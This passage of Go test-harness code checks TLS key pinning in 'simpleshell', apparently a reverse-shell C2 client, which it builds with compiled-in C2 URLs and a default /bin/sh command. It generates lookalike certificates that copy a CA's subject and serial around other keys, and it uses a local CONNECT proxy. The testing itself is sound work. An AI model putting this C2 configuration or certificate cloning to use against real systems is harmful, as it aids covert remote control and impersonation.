const cliRule = " COMMAND-LINE TOOL (engine cli): lib/simpleshell/cmd/simpleshell is built by `go build` in 7 variants - stock; with the names of its three environment variables changed at compile time (-X main.FingerprintEnvVar / C2EnvVar / ArgsEnvVar); with -X main.Fingerprint=<pin of key A> -X main.C2=<listener presenting A> -X main.Args=,cat; with -X main.Fingerprint=sha256//<pin of key B> -X main.C2=<listener presenting a CA-valid certificate with another key>; with a whitespace-only main.Fingerprint; with a malformed one (31 bytes / a pin with a space or tab around it); with -X main.IgnoreFlags=1 (the command line is not parsed) and a compiled-in pin and C2 - and run as a child process, one run per case, against listeners of the harness process (the listener behind a compiled-in C2 lives as long as the process and is shared by the cases of its build, which run one after the other; the builds side by side). Case list = the product of what the -fingerprint flag holds (absent, empty, right pin, wrong pin, malformed, whitespace-only, pin with white space around it) × what the environment variable SIMPLESHELL_FP holds (the same 7) × what was compiled in (nothing, a pin which is the server's, a pin which is another server's, white space, malformed): thorough = the whole product twice, quick = the half whose index sum has the parity of the seed (every pair of values of two sources occurs); plus, for the build that ignores its command line, a fixed script without any flag or positional argument: the 7 values of the environment variable over a compiled-in pin which is the server's resp. another server's (14 cases, twice in thorough; C2 and command from the environment or compiled in). Per case PRNG: spelling class of each value (the classes of the single engine), flag spelling (-fingerprint V, -fingerprint=V, --fingerprint V, --fingerprint=V), where the C2 URL comes from (-c2 / --c2 flag, SIMPLESHELL_C2, -c2 over a SIMPLESHELL_C2 naming another listener, the compiled-in one; an empty -c2= in front of the environment), where the command comes from (positional cat, SIMPLESHELL_ARGS, positional over SIMPLESHELL_ARGS, compiled-in main.Args resp. the default /bin/sh, whose complaint about the token echoes it), server identity (CA-valid every second time when the effective fingerprint is malformed / blank / wrong / absent), server kind, protocol, TLS version. The tool's -h must list both flags (control). EFFECTIVE fingerprint = the documented precedence: flag if non-empty, else environment variable if non-empty, else compile-time value; the oracle is the unchanged function of (the server's chain, that string): only a server presenting that key gets the request, any other is refused with zero application bytes, a malformed effective string (also whitespace-only, also padded) means no connection at all - neither to the target nor to a listener named by an overridden C2 source (all of them are watched; application bytes at one the effective fingerprint does not name are a violation). What the tool reports is read from its 'Error: …' log line; the exit status of the command itself (sh: 127) is not a statement about the connection. The listeners accept connections of the tool's process (the inode of the peer socket is asked from the kernel by its address pair - NETLINK_SOCK_DIAG exact look-up, else /proc/net/tcp - and searched for among the descriptors of the tool processes running right now) besides their own process's."

const cliAssumption = "command-line tool: the documentation of lib/simpleshell/cmd/simpleshell (README 'Config', comments of chooseFingerprint / chooseC2 / chooseArgs, -h) fixes which source gives the configured fingerprint: the first NON-EMPTY string of flag, environment variable, compile-time value - so an empty flag or variable falls through to the next source, while a whitespace-only one is a configured (and malformed) fingerprint which overrides the sources below it; which command runs and which source names it is not judged (every candidate echoes), which C2 the tool goes to is judged only through the oracle of the servers involved; the compile-time names of the environment variables are taken from the source (not in the README). Port budget: one tool run = at most one connection of the tool plus one reset probe per watched listener; quick runs about 137 cases, thorough 518"

package c13

// Certificate twins: the certificate-content dimension.
//
// The statement makes the decision a function of the KEY a server presents
// (SHA-256 of its SubjectPublicKeyInfo) and of the configured fingerprint.
// Everything else in a certificate is under the control of whoever made it.
// A twin group therefore holds servers whose certificates agree, at every
// position of the chain, in everything BUT the key - subject, issuer, serial
// number, validity, names, Subject Key Identifier, Authority Key Identifier -
// ("clone"), and one whose certificate agrees with the group's "real" in
// nothing but the key ("recert").  The servers of one group are called in both
// orders, repeatedly and concurrently, within one process; the oracle of every
// call is still the pure function of that call's own chain and fingerprint.

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/sha1"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	mrand "math/rand/v2"
	"sort"
	"strings"
	"time"
)

const twinText = "every certificate of the chain has the same subject, issuer, serial number, validity, names, Subject Key Identifier and Authority Key Identifier as its counterpart at the \"real\" server; only keys and signatures differ"

// ski1 is RFC 5280 §4.2.1.2 method 1: SHA-1 of the subjectPublicKey bit string.
func ski1(k *ecdsa.PrivateKey) []byte {
	pk, err := k.PublicKey.ECDH()
	if err != nil {
		h := sha1.Sum(k.PublicKey.X.Bytes())
		return h[:]
	}
	h := sha1.Sum(pk.Bytes())
	return h[:]
}

func randBytes(n int) []byte {
	b := make([]byte, n)
	rand.Read(b)
	return b
}

func twinTemplate(cn string, ski []byte, server bool) *x509.Certificate {
	now := time.Now()
	t := &x509.Certificate{
		SerialNumber:          serial(),
		Subject:               pkix.Name{CommonName: cn, Organization: []string{"verifharness C13"}},
		NotBefore:             now.Add(-48 * time.Hour),
		NotAfter:              now.Add(48 * time.Hour),
		KeyUsage:              x509.KeyUsageDigitalSignature,
		ExtKeyUsage:           []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		BasicConstraintsValid: true,
		SubjectKeyId:          ski,
		DNSNames:              []string{"extra.invalid"},
	}
	if server {
		t.IPAddresses, t.DNSNames = loop, sanNames
	}
	return t
}

// signCert issues t for pub; by == nil ⇒ self-signed with priv.
func signCert(t *x509.Certificate, pub, priv any, by *signer) ([]byte, error) {
	if by == nil {
		return x509.CreateCertificate(rand.Reader, t, t, pub, priv)
	}
	return x509.CreateCertificate(rand.Reader, t, by.cert, pub, by.key)
}

// cloneCA is a home-made CA certificate that copies subject, serial number,
// validity, usages and Subject Key Identifier of ca, around a key of its own.
func cloneCA(ca *x509.Certificate) (*signer, []byte, error) {
	k, err := p256()
	if err != nil {
		return nil, nil, err
	}
	t := &x509.Certificate{
		SerialNumber:          ca.SerialNumber,
		RawSubject:            ca.RawSubject,
		Subject:               ca.Subject,
		NotBefore:             ca.NotBefore,
		NotAfter:              ca.NotAfter,
		KeyUsage:              ca.KeyUsage,
		IsCA:                  true,
		BasicConstraintsValid: true,
		SubjectKeyId:          ca.SubjectKeyId,
	}
	der, err := x509.CreateCertificate(rand.Reader, t, t, &k.PublicKey, k)
	if err != nil {
		return nil, nil, err
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		return nil, nil, err
	}
	return &signer{c, k}, der, nil
}

// genTwinGroups appends n groups.  Group g (numbered from 1):
//
//	g%2 == 1: self-signed leaves;  g%2 == 0: leaves issued by the trusted CA (real, recert)
//	          resp. by a clone of that CA (clones), chain [leaf, CA];
//	(g-1)%4 >= 2: one more certificate (itself with a Subject Key Identifier, twinned too) at the end of the chain;
//	Subject Key Identifier of the leaf: method 1 of the real key, or 8 / 20 bytes chosen freely;
//	members: real, clone, every third group clone2, recert.
func genTwinGroups(n int, ca *signer, caDER []byte, add func(class string, key *ecdsa.PrivateKey, chain ...[]byte) error, tag func(g int, role string)) error {
	for g := 0; g < n; g++ {
		G := g + 1
		caKind, long := g%2 == 1, g%4 >= 2
		k0, err := p256()
		if err != nil {
			return err
		}
		var ski []byte
		switch g % 4 {
		case 0, 1:
			ski = ski1(k0)
		case 2:
			ski = randBytes(8)
		default:
			ski = randBytes(20)
		}
		lt := twinTemplate(fmt.Sprintf("c13 twin group %d", G), ski, true)
		kx, err := p256()
		if err != nil {
			return err
		}
		xt := twinTemplate(fmt.Sprintf("c13 twin group %d, extra", G), ski1(kx), false)
		member := func(role string, key *ecdsa.PrivateKey, t *x509.Certificate, home bool) error {
			var chain [][]byte
			class := "selfsigned"
			if caKind {
				by, byDER := ca, caDER
				class = "ca-valid"
				if home {
					if by, byDER, err = cloneCA(ca.cert); err != nil {
						return err
					}
					class = "ca-untrusted"
				}
				leaf, err := signCert(t, &key.PublicKey, nil, by)
				if err != nil {
					return err
				}
				chain = [][]byte{leaf, byDER}
			} else {
				leaf, err := signCert(t, &key.PublicKey, key, nil)
				if err != nil {
					return err
				}
				chain = [][]byte{leaf}
			}
			if long {
				xk := kx // the real server's extra carries the key its identifier was derived from
				if role != "real" {
					if xk, err = p256(); err != nil {
						return err
					}
				}
				x, err := signCert(xt, &xk.PublicKey, xk, nil)
				if err != nil {
					return err
				}
				chain = append(chain, x)
			}
			if err := add(class, key, chain...); err != nil {
				return err
			}
			tag(G, role)
			return nil
		}
		if err := member("real", k0, lt, false); err != nil {
			return err
		}
		k1, err := p256()
		if err != nil {
			return err
		}
		if err := member("clone", k1, lt, true); err != nil {
			return err
		}
		if g%3 == 0 {
			k2, err := p256()
			if err != nil {
				return err
			}
			if err := member("clone2", k2, lt, true); err != nil {
				return err
			}
		}
		rt := twinTemplate(fmt.Sprintf("c13 twin group %d, another certificate for the same key", G), randBytes(20), true)
		if err := member("recert", k0, rt, false); err != nil {
			return err
		}
	}
	return nil
}

// verifyTwins is the positive control of the dimension: the groups are what
// they are said to be, read back from the DER the servers will present.
func (w *world) verifyTwins() {
	r := w.r
	for _, g := range w.gorder {
		m := w.groups[g]
		real, recert := m["real"], m["recert"]
		if real == nil || recert == nil || m["clone"] == nil {
			r.Inconclusive(fmt.Sprintf("twin group %d is incomplete", g))
			continue
		}
		parse := func(id *identity) []*x509.Certificate {
			var cs []*x509.Certificate
			for _, der := range id.Chain {
				c, err := x509.ParseCertificate(der)
				if err != nil {
					return nil
				}
				cs = append(cs, c)
			}
			return cs
		}
		rc := parse(real)
		ok := rc != nil
		for _, role := range []string{"clone", "clone2"} {
			id := m[role]
			if id == nil {
				continue
			}
			cc := parse(id)
			if cc == nil || len(cc) != len(rc) {
				ok = false
				continue
			}
			for p := range cc {
				a, b := rc[p], cc[p]
				same := len(a.SubjectKeyId) > 0 && bytes.Equal(a.SubjectKeyId, b.SubjectKeyId) && bytes.Equal(a.AuthorityKeyId, b.AuthorityKeyId) &&
					bytes.Equal(a.RawSubject, b.RawSubject) && bytes.Equal(a.RawIssuer, b.RawIssuer) && a.SerialNumber.Cmp(b.SerialNumber) == 0 &&
					a.NotBefore.Equal(b.NotBefore) && a.NotAfter.Equal(b.NotAfter) && strings.Join(a.DNSNames, ",") == strings.Join(b.DNSNames, ",")
				if !same || bytes.Equal(a.RawSubjectPublicKeyInfo, b.RawSubjectPublicKeyInfo) || bytes.Equal(real.pins[p], id.pins[p]) {
					ok = false
				} else {
					r.Count("twin_chain_positions_verified_same_content_different_key", 1)
				}
			}
		}
		if cc := parse(recert); cc == nil || rc == nil || !bytes.Equal(cc[0].RawSubjectPublicKeyInfo, rc[0].RawSubjectPublicKeyInfo) || !bytes.Equal(recert.pins[0], real.pins[0]) ||
			bytes.Equal(cc[0].SubjectKeyId, rc[0].SubjectKeyId) || len(cc[0].SubjectKeyId) == 0 || bytes.Equal(cc[0].RawSubject, rc[0].RawSubject) || cc[0].SerialNumber.Cmp(rc[0].SerialNumber) == 0 {
			ok = false
		}
		if !ok {
			r.Inconclusive(fmt.Sprintf("twin group %d is not what it is meant to be (same certificate content, different keys; recert: same key, other content)", g))
			continue
		}
		r.Count("twin_groups_verified", 1)
	}
}

// twinStep: call the group's member srv with the pin of member pin's
// certificate at chain position pos.
type twinStep struct {
	srv, pin string // roles; pin "" = no fingerprint, "malformed" = a malformed one
	pos      int
}

var twinPatterns = [][]twinStep{
	// the real server first, then the clone under the real pin
	{{"real", "real", 0}, {"clone", "real", 0}, {"clone", "clone", 0}, {"real", "real", 0}, {"real", "clone", 0}},
	// the clone first, then the real server under its own pin
	{{"clone", "clone", 0}, {"real", "real", 0}, {"clone", "real", 0}, {"real", "clone", 0}, {"clone", "clone", 0}},
	// a refused handshake first
	{{"clone", "real", 0}, {"real", "real", 0}, {"clone", "clone", 0}, {"clone", "real", 0}},
	// the same key under another certificate; a second clone
	{{"real", "real", 0}, {"recert", "real", 0}, {"clone", "real", 0}, {"recert", "clone", 0}, {"recert", "recert", 0}, {"clone2", "real", 0}, {"clone2", "clone", 0}},
	// the pin of the second certificate of the chain (falls back to the leaf on chains of one)
	{{"real", "real", 1}, {"clone", "real", 1}, {"clone", "clone", 1}, {"real", "real", 1}, {"real", "clone", 1}},
	// un-pinned and malformed calls in between
	{{"real", "", 0}, {"real", "real", 0}, {"clone", "", 0}, {"clone", "real", 0}, {"real", "", 0}, {"clone", "malformed", 0}, {"clone", "real", 1}},
	// pattern 6: a concurrent set first (runTwin), then
	{{"clone", "real", 0}, {"real", "real", 0}, {"real", "clone", 0}},
	// pattern 7: PRNG (runTwin)
	nil,
}

var twinConcurrent = []twinStep{{"real", "real", 0}, {"clone", "clone", 0}, {"clone", "real", 0}, {"real", "clone", 0}, {"recert", "real", 0}, {"clone", "real", 1}}

func (w *world) twinSpec(m map[string]*identity, st twinStep, rng *mrand.Rand) (callSpec, *identity) {
	srv := m[st.srv]
	if srv == nil {
		srv = m["clone"]
	}
	kind := "raw"
	if rng.IntN(2) == 0 {
		kind = "https"
	}
	s := callSpec{Ident: srv.ID, Class: srv.Class, ChainLen: len(srv.Chain), Kind: kind, H2: rng.IntN(3) != 0, TLS13: rng.IntN(3) != 0, Scheme: "https", Role: srv.Role}
	switch st.pin {
	case "":
		s.Intent, s.Spelling, s.PinRole = "unpinned", "unpinned", "-"
		return s, nil
	case "malformed":
		cl := spellMalformed[rng.IntN(len(spellMalformed))]
		s.FP, _ = spell(cl, srv, w.ids, rng)
		s.Intent, s.Spelling, s.PinRole = "malformed", cl, "-"
		return s, nil
	}
	owner := m[st.pin]
	if owner == nil {
		owner = m["clone"]
	}
	pos := st.pos
	if pos >= len(owner.pins) || pos >= len(srv.pins) {
		pos = 0
	}
	s.FP, s.PinRole = b64(owner.pins[pos]), owner.Role
	s.Spelling = "exact"
	if owner != srv {
		s.Spelling = "twin-pin"
	}
	if pos > 0 {
		s.Spelling += fmt.Sprintf("-pos%d", pos)
	}
	if rng.IntN(3) == 0 {
		s.FP, s.Spelling = prefix+s.FP, "prefixed-"+s.Spelling
	}
	s.Intent = "wrong"
	for _, p := range srv.pins {
		if bytes.Equal(p, owner.pins[pos]) {
			s.Intent = "right"
		}
	}
	return s, owner
}

// otherKeyTwins: the members of srv's group whose leaf key is not srv's.
func (w *world) otherKeyTwins(srv *identity) []*identity {
	var out []*identity
	for _, o := range w.groups[srv.Group] {
		if !bytes.Equal(o.pins[0], srv.pins[0]) {
			out = append(out, o)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

// runTwin: sequence number index over one twin group, in the process that
// has run the sequences before it (8 per process, all groups in turn).
func (w *world) runTwin(index int, sample bool) {
	r := w.r
	if len(w.gorder) == 0 {
		r.Inconclusive("no twin groups")
		return
	}
	rng := r.Rng("twin", index)
	g := w.gorder[index%len(w.gorder)]
	m := w.groups[g]
	pi := (3*index + index/8) % len(twinPatterns)
	steps := twinPatterns[pi]
	if pi == 6 {
		var specs []callSpec
		for _, st := range twinConcurrent {
			s, _ := w.twinSpec(m, st, rng)
			specs = append(specs, s)
		}
		w.runConc("twin", index, specs, false)
		for _, s := range specs {
			w.shook[s.Ident]++ // each of them is dialled (well-formed pins)
		}
		r.Count("twin_concurrent_sets", 1)
		r.Count("twin_calls", int64(len(specs)))
	}
	if steps == nil {
		roles := []string{"real", "clone", "recert", "clone2"}
		n := 3 + rng.IntN(4)
		for i := 0; i < n; i++ {
			st := twinStep{srv: roles[rng.IntN(len(roles))], pin: roles[rng.IntN(3)], pos: rng.IntN(2)}
			switch x := rng.IntN(20); {
			case x < 3:
				st.pin = ""
			case x < 5:
				st.pin = "malformed"
			}
			steps = append(steps, st)
		}
	}
	var results []*callResult
	var specs []callSpec
	var sig []string
	for _, st := range steps {
		spec, owner := w.twinSpec(m, st, rng)
		specs = append(specs, spec)
		srv := w.ids[spec.Ident]
		res := w.exec(spec, true)
		res.Key, res.What = w.judge(res)
		e := res.Exp
		r.Count("twin_calls", 1)
		r.Count(fmt.Sprintf("twin_calls_to_%s_under_the_pin_of_%s", spec.Role, spec.PinRole), 1)
		others := w.otherKeyTwins(srv)
		switch {
		case e.Pinned && e.Expect == "refuse-handshake" && owner != nil && owner != srv:
			// the pin of a certificate that differs from the presented one in nothing but the key
			r.Count("twin_pin_calls_expected_refused", 1)
			if strings.Contains(spec.Spelling, "pos1") {
				r.Count("twin_pin_calls_at_chain_position_1_expected_refused", 1)
			}
			if w.shook[owner.ID] > 0 {
				r.Count("twin_pin_calls_after_a_handshake_with_the_pin_owner_in_this_process", 1)
			}
			if res.Observed == "refused-at-handshake" {
				r.Count("twin_pin_calls_refused_at_handshake", 1)
			}
		case e.Pinned && e.Expect == "accept":
			r.Count("twin_own_key_pin_calls_expected_accepted", 1)
			if e.MatchPos > 0 {
				r.Count("twin_own_key_pin_calls_at_chain_position_1_expected_accepted", 1)
			}
			if owner != nil && owner != srv {
				r.Count("twin_same_key_other_certificate_pin_calls", 1)
			}
			for _, o := range others {
				if w.shook[o.ID] > 0 {
					r.Count("twin_own_key_pin_calls_after_a_handshake_with_a_twin_in_this_process", 1)
					break
				}
			}
			if res.Observed == "accepted" {
				r.Count("twin_own_key_pin_calls_accepted", 1)
			}
		case !e.Pinned:
			r.Count("twin_unpinned_calls", 1)
		}
		if res.ClientHellos > 0 {
			w.shook[srv.ID]++
		}
		results = append(results, res)
		sig = append(sig, shape(spec, e))
		r.Distinct("call|" + shape(spec, e))
		w.report("twin", index, res, map[string]any{"position_in_sequence": len(results) - 1, "sequence": brief(specs), "twin_group": g, "pattern": pi})
	}
	r.Eval(1)
	r.Distinct("twin|" + strings.Join(sig, ","))
	r.Count(fmt.Sprintf("twin_pattern_%d", pi), 1)
	if sample {
		r.Sample("twin", map[string]any{"index": index, "twin_group": g, "pattern": pi, "what_the_members_share": twinText, "calls": sampleOf(results)})
	}
}

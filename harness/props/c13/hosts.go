package c13

// The C2-spelling dimension: the host of the C2 URL written as a NAME.
//
// The same server can be named in many ways: fully qualified with the root
// dot, in mixed case, as a single label, as an internationalised name in its
// Unicode or its xn-- spelling.  What the URL says and what the TLS handshake
// carries as server name then differ (crypto/tls drops the root dot, net/http
// turns Unicode labels into A-labels) - and none of it has anything to do with
// the key the server presents.  The oracle of a pinned call therefore never
// looks at the host; that of an un-pinned call asks, as ordinary validation
// does, whether the certificate names it.
//
// Names are not resolved: the process that runs this engine has
// HTTPS_PROXY=http://127.0.0.1:<port> in its environment, a plain CONNECT proxy
// run by the harness that stands in for DNS (every name is this machine; the
// port selects the listener).  "localhost" is exempt from proxies by net/http
// and is connected to directly (it must resolve through /etc/hosts).

import (
	"bufio"
	"context"
	"fmt"
	"io"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const hostZone = "c13.example"

// sanNames are the DNS names in the certificates of the CA-signed identities
// (besides the IP address 127.0.0.1): every generated name but the
// "not-named-by-the-certificate" kinds is covered.
var sanNames = []string{"*." + hostZone, "c13host", "localhost"}

// idnLabels: U-label and A-label (RFC 3492) of the same label.  The table is
// cross-checked at run time against what net/http puts into its CONNECT
// request and into the client hello.
var idnLabels = [][2]string{
	{"bücher", "xn--bcher-kva"},
	{"münchen", "xn--mnchen-3ya"},
	{"пример", "xn--e1afmkfd"},
	{"例え", "xn--r8jz45g"},
}

var hostKinds = []string{
	"fqdn", "fqdn-rootdot", "fqdn-mixedcase", "fqdn-mixedcase-rootdot",
	"single-label", "single-label-rootdot",
	"localhost", "localhost-rootdot", "localhost-mixedcase",
	"idn-unicode", "idn-unicode-rootdot", "idn-unicode-mixedcase", "idn-alabel", "idn-alabel-uppercase-rootdot",
	"fqdn-not-named-by-the-certificate", "fqdn-not-named-by-the-certificate-rootdot",
}

func randLabel(rng *mrand.Rand) string {
	const first, rest = "abcdefghijklmnopqrstuvwxyz", "abcdefghijklmnopqrstuvwxyz0123456789"
	n := 3 + rng.IntN(8)
	b := make([]byte, n)
	b[0] = first[rng.IntN(len(first))]
	for i := 1; i < n; i++ {
		b[i] = rest[rng.IntN(len(rest))]
	}
	return string(b)
}

// mixCase puts about every second ASCII letter in upper case, at least one.
func mixCase(s string, rng *mrand.Rand) string {
	b := []byte(s)
	var letters []int
	for i, c := range b {
		if c >= 'a' && c <= 'z' {
			letters = append(letters, i)
		}
	}
	up := 0
	for _, i := range letters {
		if rng.IntN(2) == 0 {
			b[i] -= 'a' - 'A'
			up++
		}
	}
	if up == 0 && len(letters) > 0 {
		b[letters[rng.IntN(len(letters))]] -= 'a' - 'A'
	}
	return string(b)
}

func genHost(kind string, rng *mrand.Rand) string {
	fq := randLabel(rng) + "." + hostZone
	idn := idnLabels[rng.IntN(len(idnLabels))]
	switch kind {
	case "fqdn":
		return fq
	case "fqdn-rootdot":
		return fq + "."
	case "fqdn-mixedcase":
		return mixCase(fq, rng)
	case "fqdn-mixedcase-rootdot":
		return mixCase(fq, rng) + "."
	case "single-label":
		return "c13host"
	case "single-label-rootdot":
		return "c13host."
	case "localhost":
		return "localhost"
	case "localhost-rootdot":
		return "localhost."
	case "localhost-mixedcase":
		return mixCase("localhost", rng)
	case "idn-unicode":
		return idn[0] + "." + hostZone
	case "idn-unicode-rootdot":
		return idn[0] + "." + hostZone + "."
	case "idn-unicode-mixedcase":
		return mixCase(idn[0]+"."+hostZone, rng)
	case "idn-alabel":
		return idn[1] + "." + hostZone
	case "idn-alabel-uppercase-rootdot":
		return strings.ToUpper(idn[1]+"."+hostZone) + "."
	case "fqdn-not-named-by-the-certificate":
		return randLabel(rng) + ".elsewhere-" + hostZone
	case "fqdn-not-named-by-the-certificate-rootdot":
		return randLabel(rng) + ".elsewhere-" + hostZone + "."
	}
	panic("unknown host kind " + kind)
}

// canonicalHost is the name a spelling stands for: one root dot removed, ASCII
// letters in lower case, U-labels of the table as A-labels.  ok is false for a
// non-ASCII label the table does not know.
func canonicalHost(h string) (string, bool) {
	h = strings.TrimSuffix(h, ".")
	labels := strings.Split(h, ".")
	for i, l := range labels {
		ascii := true
		for j := 0; j < len(l); j++ {
			ascii = ascii && l[j] < 0x80
		}
		if ascii {
			b := []byte(l)
			for j, c := range b {
				if c >= 'A' && c <= 'Z' {
					b[j] = c + 'a' - 'A'
				}
			}
			labels[i] = string(b)
			continue
		}
		found := false
		for _, p := range idnLabels {
			if strings.ToLower(l) == p[0] {
				labels[i], found = p[1], true
			}
		}
		if !found {
			return "", false
		}
	}
	return strings.Join(labels, "."), true
}

// nameCovered: do the DNS names of the CA-signed certificates (sanNames) name h?
func nameCovered(h string) bool {
	c, ok := canonicalHost(h)
	if !ok {
		return false
	}
	if c == "c13host" || c == "localhost" {
		return true
	}
	first, rest, ok := strings.Cut(c, ".")
	return ok && first != "" && rest == hostZone
}

// oracleCall is the oracle of one call: that of its chain and fingerprint; an
// un-pinned call to a host spelled as a name is accepted iff, besides, the
// certificate names that host.
func oracleCall(id *identity, s callSpec) expectation {
	e := oracle(id, s.FP)
	if s.FP == "" && s.Host != "" && e.Expect == "accept" && !nameCovered(s.Host) {
		e.Expect = "refuse-handshake"
	}
	return e
}

// ---- the CONNECT proxy ------------------------------------------------------------

type connectProxy struct {
	l        net.Listener
	mu       sync.Mutex
	byAddr   map[string][]string // listener address -> targets of the CONNECT requests that were for it, as received
	connects int
	other    int
	dialFail int
	wg       sync.WaitGroup
}

func (p *connectProxy) serve(c net.Conn) {
	defer p.wg.Done()
	defer c.Close()
	c.SetReadDeadline(time.Now().Add(30 * time.Second))
	br := bufio.NewReader(c)
	req, err := http.ReadRequest(br)
	if err != nil {
		return
	}
	if req.Method != http.MethodConnect {
		p.mu.Lock()
		p.other++
		p.mu.Unlock()
		io.WriteString(c, "HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		return
	}
	target := req.RequestURI
	_, port, err := net.SplitHostPort(target)
	if err != nil {
		io.WriteString(c, "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		return
	}
	addr := "127.0.0.1:" + port // every name is this machine
	p.mu.Lock()
	p.connects++
	p.byAddr[addr] = append(p.byAddr[addr], target)
	p.mu.Unlock()
	s, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		p.mu.Lock()
		p.dialFail++
		p.mu.Unlock()
		io.WriteString(c, "HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
		return
	}
	defer s.Close()
	c.SetReadDeadline(time.Time{})
	if _, err := io.WriteString(c, "HTTP/1.1 200 Connection established\r\n\r\n"); err != nil {
		return
	}
	done := make(chan struct{}, 2)
	go func() { io.Copy(s, br); done <- struct{}{} }()
	go func() { io.Copy(c, s); done <- struct{}{} }()
	<-done // either side has ended: so has the tunnel
	c.Close()
	s.Close()
	<-done
}

// connectsTo takes the CONNECT targets received for the listener at addr.
func (p *connectProxy) connectsTo(addr string) []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	t := p.byAddr[addr]
	delete(p.byAddr, addr)
	return t
}

func (p *connectProxy) finish(r *mon.Run) {
	p.l.Close()
	p.mu.Lock()
	r.Count("proxy_connect_requests", int64(p.connects))
	r.Count("proxy_requests_other_than_connect", int64(p.other))
	r.Count("proxy_dial_failures", int64(p.dialFail))
	p.mu.Unlock()
}

// useConnectProxy configures the process the way a host behind a web proxy
// is configured: HTTPS_PROXY in the environment, before net/http first reads it.
func (w *world) useConnectProxy() error {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	p := &connectProxy{l: l, byAddr: map[string][]string{}}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			p.wg.Add(1)
			go p.serve(c)
		}
	}()
	u := "http://" + l.Addr().String()
	os.Setenv("HTTPS_PROXY", u)
	os.Setenv("https_proxy", u)
	for _, k := range []string{"NO_PROXY", "no_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"} {
		os.Unsetenv(k)
	}
	w.proxy = p
	w.r.Count("child_processes_with_https_proxy_in_the_environment", 1)
	// "localhost" never goes through a proxy (net/http): it has to resolve here
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	addrs, _ := net.DefaultResolver.LookupHost(ctx, "localhost")
	for _, a := range addrs {
		w.direct = w.direct || a == "127.0.0.1"
	}
	if w.direct {
		w.r.Count("child_processes_in_which_localhost_resolves_to_127_0_0_1", 1)
	}
	return nil
}

// countHost: what a call to a host spelled as a name exercised; the harness's
// idea of the name is cross-checked against what net/http asked the proxy for
// and what the client hello carried.
func (w *world) countHost(res *callResult) {
	s, e, r := res.Spec, res.Exp, w.r
	if s.Host == "" {
		return
	}
	r.Count("host_calls", 1)
	r.Count("host_kind:"+s.HostKind, 1)
	switch {
	case len(res.Connects) > 0:
		r.Count("host_calls_tunnelled_through_the_connect_proxy", 1)
	case res.Accepts > 0:
		r.Count("host_calls_connected_directly_by_name", 1)
	}
	want, ok := canonicalHost(s.Host)
	if !ok {
		r.Inconclusive(fmt.Sprintf("the harness cannot canonicalise its own host %q", s.Host))
		return
	}
	for _, c := range res.Connects {
		h, _, err := net.SplitHostPort(c)
		if got, ok := canonicalHost(h); err != nil || !ok || got != want {
			r.Inconclusive(fmt.Sprintf("C2 host %q: the harness takes it for %q, net/http asked the proxy for %q", s.Host, want, c))
		} else {
			r.Count("connect_targets_agreeing_with_the_harness_on_the_name", 1)
		}
	}
	differs := false
	if res.SNISeen && res.ClientHellos > 0 {
		r.Count("host_calls_with_client_hello", 1)
		if got, ok := canonicalHost(res.SNI); !ok || got != want {
			r.Inconclusive(fmt.Sprintf("C2 host %q: the harness takes it for %q, the client hello named %q", s.Host, want, res.SNI))
		}
		if differs = res.SNI != s.Host; differs {
			r.Count("host_calls_whose_client_hello_names_the_server_differently_from_the_url", 1)
		} else {
			r.Count("host_calls_whose_client_hello_names_the_server_as_the_url_does", 1)
		}
	}
	id := w.ids[s.Ident]
	switch {
	case e.Pinned && e.Expect == "accept":
		r.Count("pinned_matching_host_calls", 1)
		if res.Observed == "accepted" {
			r.Count("pinned_matching_host_calls_accepted", 1)
		}
		if differs {
			r.Count("pinned_matching_host_calls_whose_client_hello_names_the_server_differently_from_the_url", 1)
		}
	case e.Pinned && e.Expect == "refuse-handshake":
		r.Count("pinned_mismatching_host_calls", 1)
		if res.Observed == "refused-at-handshake" {
			r.Count("pinned_mismatching_host_calls_refused_at_handshake", 1)
		}
		if differs {
			r.Count("pinned_mismatching_host_calls_whose_client_hello_names_the_server_differently_from_the_url", 1)
		}
		if id.valid() && nameCovered(s.Host) {
			// ordinary validation would let this call through: the pin is all that stops it
			r.Count("pinned_mismatching_host_calls_to_servers_passing_ordinary_validation", 1)
		}
	case e.Pinned:
		r.Count("malformed_host_calls", 1)
	case e.Expect == "accept":
		r.Count("unpinned_host_calls_to_servers_whose_valid_certificate_names_the_host", 1)
		if res.Observed == "accepted" {
			r.Count("unpinned_host_calls_accepted", 1)
		}
		if differs {
			r.Count("unpinned_matching_host_calls_whose_client_hello_names_the_server_differently_from_the_url", 1)
		}
	default:
		r.Count("unpinned_host_calls_expected_refused", 1)
		if id.valid() {
			r.Count("unpinned_host_calls_to_servers_whose_valid_certificate_names_another_host", 1)
		}
	}
}

// runHost: sequence number index - seven calls to hosts of ONE spelling kind
// (index mod number of kinds), in PRNG order: matching pin, wrong pin against a
// self-signed and against a CA-valid server, no fingerprint against a
// CA-valid and a self-signed server, a malformed fingerprint, and a matching
// pin against a CA-valid server (of the second certificate where there is one).
func (w *world) runHost(index int, sample bool) {
	r := w.r
	rng := r.Rng("host", index)
	kind := hostKinds[index%len(hostKinds)]
	if kind == "localhost" && !w.direct {
		r.Count("host_sequences_skipped_localhost_does_not_resolve", 1)
		return
	}
	self := func() *identity { return w.self[rng.IntN(len(w.self))] }
	valid := func() *identity { return w.cav["ca-valid"][rng.IntN(len(w.cav["ca-valid"]))] }
	type step struct {
		id    *identity
		class string
	}
	steps := []step{
		{self(), []string{"exact", "prefixed"}[rng.IntN(2)]},
		{self(), spellWrong[rng.IntN(len(spellWrong))]},
